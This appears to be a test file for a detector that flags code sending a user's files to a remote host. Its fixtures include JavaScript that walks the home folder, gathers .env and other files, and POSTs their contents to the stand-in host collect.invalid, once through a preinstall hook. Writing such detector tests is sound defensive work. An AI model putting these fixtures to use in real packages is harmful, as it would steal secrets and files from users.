import { examine } from '../../../test/examine.ts';
import { sendsFoundFiles } from './sends-found-files.ts';

const WALK = `const fs = require('fs'), os = require('os'), path = require('path'); function walk(dir, found) { for (const e of fs.readdirSync(dir, { withFileTypes: true })) { const full = path.join(dir, e.name); if (e.isDirectory()) walk(full, found); else if (/^\\.env/.test(e.name)) found.push(full); } return found; }`;
const SEND = `fetch('https://collect.invalid/', { method: 'POST', body: JSON.stringify(all.map(f => ({ f, text: fs.readFileSync(f, 'utf8') }))) })`;

examine(sendsFoundFiles, {
  speaks: [
    {
      when: 'everything below the home folder is gone through once somebody calls it',
      files: { 'index.js': `${WALK} exports.go = () => { const all = walk(os.homedir(), []); ${SEND} }` },
      weight: 'strong',
    },
    {
      when: 'a folder for documents is, for whoever calls it',
      files: { 'index.js': `${WALK} exports.go = () => { const all = walk(path.join(os.homedir(), 'Documents'), []); ${SEND} }` },
      weight: 'context',
    },
    {
      when: 'files of the home folder are sent when it is imported',
      files: { 'index.js': `${WALK} const all = walk(os.homedir(), []); ${SEND}` },
      weight: 'strong',
      says: ['<home>', 'collect.invalid'],
    },
    {
      when: 'a generator finds them, at install',
      files: {
        'package.json': { name: 'specimen', scripts: { preinstall: 'node check.js' } },
        'check.js': `const fs = require('fs'), os = require('os'), path = require('path'); function* walk(dir) { for (const e of fs.readdirSync(dir, { withFileTypes: true })) { const full = path.join(dir, e.name); if (e.isDirectory()) yield* walk(full); else yield full; } } const all = [process.env.INIT_CWD, os.homedir()].filter(Boolean).flatMap(r => [...walk(r)]); ${SEND}`,
      },
      weight: 'strong',
    },
  ],
  silent: [
    {
      when: 'files of the project are read and nothing is sent',
      files: { 'index.js': `${WALK} const all = walk(process.cwd(), []); exports.texts = all.map(f => fs.readFileSync(f, 'utf8'))` },
    },
    {
      when: 'a folder of its own is read, and its size told',
      files: {
        'index.js': `${WALK} const all = walk(path.join(os.homedir(), '.specimen'), []); fetch('https://stats.invalid/', { method: 'POST', body: String(all.length) })`,
      },
    },
    {
      when: 'the caller says which folder and where to',
      files: {
        'index.js': `${WALK} exports.upload = (dir, url) => { const all = walk(dir, []); return fetch(url, { body: all.map(f => fs.readFileSync(f)) }) }`,
      },
    },
  ],
});
